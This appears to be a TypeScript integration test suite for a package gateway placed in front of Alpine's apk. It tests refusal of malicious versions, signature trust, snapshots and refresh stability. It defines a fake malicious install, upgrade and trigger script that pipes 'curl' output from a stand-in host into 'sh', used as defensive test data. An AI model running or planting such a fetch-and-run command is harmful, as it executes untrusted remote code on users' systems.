// Alpine's apk against a gateway: update, fetch, add into a root, upgrade; refused and older versions; keys; a dated snapshot.
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { type ApkRoot, createApkRoot, provideApk } from '../support/alpine-apk.ts'
import {
  type ApkKey,
  type ApkPackage,
  apkPackage,
  indexText,
  makeApkKey,
  signedIndex,
} from '../support/apk-index.ts'
import { skip } from '../support/clients.ts'
import type { Ran } from '../support/dnf.ts'
import { type GatewayProcess, startGateway } from '../support/gateway.ts'
import { type Loopback, startLoopback } from '../support/loopback-upstream.ts'

const LOOPS = Number(process.env['REFRESH_LOOPS'] ?? 100)
const FETCH_AND_RUN = '#!/bin/sh\ncurl -s http://evil.test/x | sh\n'
const apk = await provideApk()
if ('why' in apk) skip(`apk: ${apk.why}`)

const honest = (name: string, version: string, lines: string[] = []) =>
  apkPackage({
    name,
    version,
    lines,
    pkginfo: [
      `pkgname = ${name}`,
      `pkgver = ${version}`,
      'arch = x86_64',
      `origin = ${name}`,
      'license = MIT',
      ...lines.map((line) => `depend = ${line.slice(2)}`),
    ],
    files: [{ name: 'usr/' }, { name: `usr/${name}`, data: version }],
  })
const evil = (name: string, script: string) =>
  apkPackage({
    name,
    version: '2.0-r0',
    files: [{ name: 'usr/' }, { name: `usr/${name}`, data: '2.0-r0' }],
    control: [{ name: script, data: FETCH_AND_RUN, mode: 0o755 }],
  })

describe.skipIf('why' in apk)('apk', () => {
  let key: ApkKey
  let upstream: Loopback
  let gateway: GatewayProcess
  let keys: Record<string, string>
  let all: ApkPackage[]
  const files = new Map<string, Uint8Array>()
  const roots: ApkRoot[] = []

  async function publish(...more: ApkPackage[]): Promise<void> {
    all.push(...more)
    for (const { name, version, bytes } of more) files.set(`/v1/main/x86_64/${name}-${version}.apk`, bytes)
    files.set('/v1/main/x86_64/APKINDEX.tar.gz', await signedIndex(indexText(all), { key }))
  }

  beforeAll(async () => {
    key = makeApkKey()
    const stranger = makeApkKey()
    all = []
    await publish(
      await honest('helper', '1.0-r0'),
      await honest('tool', '1.0-r0', ['D:helper']),
      await evil('tool', '.post-install'),
      await honest('changed', '1.0-r0'),
      await evil('changed', '.pre-upgrade'),
      await honest('watch', '1.0-r0'),
      await evil('watch', '.trigger'),
    )
    upstream = await startLoopback((path) => {
      const unsigned = path.startsWith('/unsigned/')
      const body = files.get(path.replace('/unsigned/', '/'))
      const index = unsigned && path.endsWith('APKINDEX.tar.gz') ? files.get('unsigned') : body
      return index === undefined ? undefined : { body: index, contentType: 'application/octet-stream' }
    })
    files.set('unsigned', await signedIndex(indexText(all), {}))
    const repository = (name: string, file: string, more = {}, base = upstream.url) => ({
      name,
      type: 'apk',
      upstreams: [base],
      options: { versions: ['v1'], repositories: ['main'], architectures: ['x86_64'], keys: [file], ...more },
    })
    gateway = await startGateway({
      config: {
        limits: { indexFresh: '100ms' },
        repositories: [
          repository('alpine', key.file),
          repository('old', key.file, { signatures: ['RSA'] }),
          repository('new', key.file, { signatures: ['RSA256'] }),
          repository('wrong', stranger.file),
          repository('unsigned', key.file, {}, `${upstream.url}/unsigned`),
        ],
      },
    })
    const listed = await (await fetch(`${gateway.url}/-/keys/`)).text()
    const name = listed.split('\n').find((line) => line.endsWith('.rsa.pub')) ?? ''
    keys = { [name]: await (await fetch(`${gateway.url}/-/keys/${name}`)).text() }
  }, 300_000)

  afterAll(async () => {
    for (const root of roots) root.remove()
    await gateway?.stop()
    await upstream?.close()
  })

  const lineOf = (repository: string) => `${gateway.url}/${repository}/v1/main`

  async function root(repository = 'alpine', trusted: Record<string, string> = keys): Promise<ApkRoot> {
    const made = await createApkRoot('folder' in apk ? apk.folder : '', [lineOf(repository)], trusted)
    roots.push(made)
    return made
  }

  /** Until its index no longer has the version. */
  async function untilGone(name: string): Promise<void> {
    const fresh = await root()
    await expect
      .poll(
        async () => {
          await fresh.run('update', '--force-refresh')
          return (await fresh.run('search', '--exact', name)).said
        },
        { timeout: 60_000, interval: 500 },
      )
      .not.toContain(`${name}-2.0-r0`)
  }

  it('updates, is refused the malicious version, and adds the older one with what it needs after the flip', async () => {
    const system = await root()
    expectSuccess(await system.run('update'))
    const refused = await system.run('add', 'tool')
    expect(refused.exitCode).not.toBe(0)
    expect(refused.said).toMatch(/tool-2\.0-r0.*HTTP 403|403.*tool/s)
    expect(system.installed('usr/tool')).toBeUndefined()
    await untilGone('tool')
    const fresh = await root()
    expectSuccess(await fresh.run('add', 'tool'))
    expect([fresh.installed('usr/tool'), fresh.installed('usr/helper')]).toEqual(['1.0-r0', '1.0-r0'])
  })

  it.each([
    ['changed', 'an upgrade script'],
    ['watch', 'a trigger'],
  ])('is refused %s with %s, and never upgraded to it', async (name) => {
    const system = await root()
    expectSuccess(await system.run('add', `${name}=1.0-r0`))
    const refused = await system.run('add', '--upgrade', `${name}=2.0-r0`)
    expect(refused.exitCode).not.toBe(0)
    expect(system.installed(`usr/${name}`)).toBe('1.0-r0')
    await untilGone(name)
    expectSuccess(await system.run('add', '--upgrade', '--force-refresh', name))
    expect(system.installed(`usr/${name}`)).toBe('1.0-r0')
  })

  it('fetches a package, unaltered', async () => {
    const system = await root()
    expectSuccess(await system.run('update'))
    expectSuccess(await system.run('fetch', '--output', '.', 'helper'))
    const sent = files.get('/v1/main/x86_64/helper-1.0-r0.apk') ?? []
    expect(system.bytes('helper-1.0-r0.apk')?.equals(Buffer.from(sent))).toBe(true)
  })

  it('upgrades to a newer honest version; a dated snapshot adds the older one', async () => {
    const system = await root()
    expectSuccess(await system.run('add', 'helper'))
    expect(system.installed('usr/helper')).toBe('1.0-r0')
    await new Promise((resolve) => setTimeout(resolve, 1100)) // snapshots are told to the second
    const before = `alpine@${new Date().toISOString().replace(/[-:]|\.\d+/g, '')}`
    await new Promise((resolve) => setTimeout(resolve, 1100))
    await publish(await honest('helper', '1.1-r0'))
    await expect
      .poll(
        async () => {
          await system.run('upgrade', '--force-refresh')
          return system.installed('usr/helper')
        },
        { timeout: 60_000, interval: 500 },
      )
      .toBe('1.1-r0')
    const old = await root(before)
    expectSuccess(await old.run('add', 'helper'))
    expect(old.installed('usr/helper')).toBe('1.0-r0')
  })

  it.each(['alpine', 'old', 'new'])('trusts the signatures of the repository %s', async (name) => {
    expectSuccess(await (await root(name)).run('update'))
  })

  it('trusts nothing without our key, and nothing under another name of it', async () => {
    const [pem = ''] = Object.values(keys)
    for (const trusted of [{}, { [key.name]: key.pem }, { 'renamed.rsa.pub': pem }]) {
      const { exitCode, said } = await (await root('alpine', trusted)).run('update')
      expect(exitCode).not.toBe(0)
      expect(said).toMatch(/UNTRUSTED/i)
    }
  })

  it.each([
    ['wrong', /key/],
    ['unsigned', /1 gzip members instead of 2/],
  ])('gets nothing from an upstream whose signature is %s', async (name, why) => {
    const answer = await fetch(`${lineOf(name)}/x86_64/APKINDEX.tar.gz`)
    expect(answer.status).toBeGreaterThanOrEqual(500)
    expect(await answer.json()).toMatchObject({ detail: expect.stringMatching(why) })
    const system = await root(name)
    expect((await system.run('update')).exitCode).not.toBe(0)
    expect((await system.run('add', 'helper')).exitCode).not.toBe(0)
  })

  it('asks for the v2 index by an ordinary line, and gets no v3 index', async () => {
    const system = await root()
    system.use(`${gateway.url}/alpine/v1/main/x86_64/Packages.adb`)
    expect((await system.run('update')).exitCode).not.toBe(0)
  })

  it(`never fails in ${LOOPS} refreshes while generations are switched`, { timeout: 600_000 }, async () => {
    const system = await root()
    let switching = true
    const publisher = (async () => {
      for (let number = 2; switching; number += 1) {
        await publish(await honest('counter', `${number}.0-r0`))
        await new Promise((resolve) => setTimeout(resolve, 150))
      }
    })()
    const seen = new Set<string>()
    try {
      for (let loop = 0; loop < LOOPS || (seen.size < 4 && loop < 3000); loop += 1) {
        const { exitCode, said } = await system.run('update', '--force-refresh')
        expect(exitCode, said).toBe(0)
        expect(said).not.toMatch(/warning|error|untrusted|bad/i)
        seen.add((await system.run('search', '--exact', 'counter')).said)
      }
    } finally {
      switching = false
      await publisher
    }
    expect(seen.size).toBeGreaterThan(3)
  })
})

function expectSuccess({ exitCode, said }: Ran): void {
  expect(exitCode, said).toBe(0)
}
